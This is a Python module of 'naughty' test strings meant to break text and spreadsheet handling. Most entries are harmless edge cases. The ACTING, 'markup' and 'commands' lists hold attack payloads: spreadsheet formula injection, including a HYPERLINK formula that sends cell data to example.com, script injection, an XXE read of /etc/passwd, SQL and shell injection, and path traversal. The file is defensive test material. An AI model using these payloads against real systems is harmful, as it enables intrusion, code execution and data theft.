"""Texts that break programs, a few of each kind that the Big List of Naughty Strings knows, and of what spreadsheets make of a text."""

ACTING = [
    "=1+1", "+86138", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "＝1", "＋1", "－1", "＠a", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://example.com\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0",
    "+1-1", "@echo off", "=", "-", "--", "=\"=1\"", "'=1", "''=1",
]  # fmt: skip
"""What a spreadsheet would run."""

NAUGHTY = {
    "words of programs": ["undefined", "null", "NULL", "None", "nil", "NaN", "Infinity", "TRUE", "false", "#N/A", "#REF!", "N/A", "\\N"],
    "numbers and dates": [
        "0", "007", "013800138000", "1e5", "1E+10", "0x1F", "1/2", "3-4", "2024-01-01", "1,000", "1.000,5", "６", "٣", "½", "1_000",
        "123456789012345678901234567890", "110101199003070000", "MARCH1", "SEPT2", "∞",
    ],
    "quotes and separators": [
        '"', '""', "'", "''", "`", "“”", 'say "hi", twice', "a;b", "a,b", "a\tb", "a|b", ",", ";", "\\", '\\"', "^", "~",
    ],
    "lines": ["two\nlines", "two\r\nlines", "two\rlines", "\n", "\r\n", "a\n", "\x0b", "\x0c", "a\x85b", "a\u2028b", "a\u2029b"],
    "spaces": ["", " ", "  ", " a", "a ", "\t", "\xa0", "\u3000", "\u200b", "\u200d", "\u2060", "\ufeff", "\ufeffa", "\u180e", " =1"],
    "control": [
        "\x00", "a\x00b", "\x01\x02\x1f", "\x1b[31mred\x1b[0m", "\x07", "\x08", "\x7f",
        "\x80\x9f", "\ufffe", "\uffff", "\U0001ffff", "\ufffd",
    ],
    "scripts": [
        "王芳", "㐂𠮷𪚥", "田中さんにあげて", "パーティーへ行かないか", "사회과학원", "Ω≈ç√∫˜µ≤≥÷",
        "Ёлка Ђ", "שלום", "مرحبا", "ｔｈｅ　ｆｕｌｌ　ｗｉｄｔｈ",
        "ประเทศไทย",
        "தமிழ்", "ཨོཾ", "ꙮ", "Ṱ̺̺̕o͞ ̷i̲̬͇̪n", "e\u0301 é", "ﬁ ß ẞ İ ı", "O’Brien-Łukasz", "𝕿𝖍𝖊", "\ue000",
    ],
    "directions": ["\u202etest\u202c", "\u2066test\u2069", "\u200fمتن", "‮exe.xslx", "اَلْعَرَبِيَّةُ abc 123"],
    "pictures": ["😍", "👩🏽", "👨‍👩‍👧‍👦", "🇨🇳🇪🇺", "❤️ 💔", "0️⃣", "\U0001f9d1\u200d\U0001f4bb", "(╯°□°）╯︵ ┻━┻)", "◝(⁰▿⁰)◜"],
    "markup": [
        "<script>alert(1)</script>", "<b>&amp;</b>", "&lt;", "<!--", "]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<f>1+1</f>", "</t></is></c>", "javascript:alert(1)", "<img src=x onerror=alert(1)>", "{{7*7}}", "${7*7}", "%s%n", "{0}", "#{1}",
    ],
    "commands": [
        "'; DROP TABLE customers; --", "1' OR '1'='1", "$(touch /tmp/x)", "`id`", "; ls", "| cat /etc/passwd", "../../etc/passwd",
        "..\\..\\win.ini",
        "C:\\CON", "NUL", "COM1", "file.txt\x00.csv", "%00", "%0d%0aSet-Cookie: a=b", "http://a/%%30%30", "\\\\server\\share",
    ],
    "spreadsheet's own": [
        "_x0041_", "_x000D_", "_x005F_", "_X0041_", "__x0041_", "_x00_", "a_x", "'quoted", "'", "@", "http://example.com", "mailto:a@b.c",
        "A1", "R1C1",
    ],
    "long": ["x" * 16_383, "很" * 16_383, "a " * 8_000, "\n" * 5_000],
}  # fmt: skip

ALL = [*ACTING, *(text for texts in NAUGHTY.values() for text in texts)]
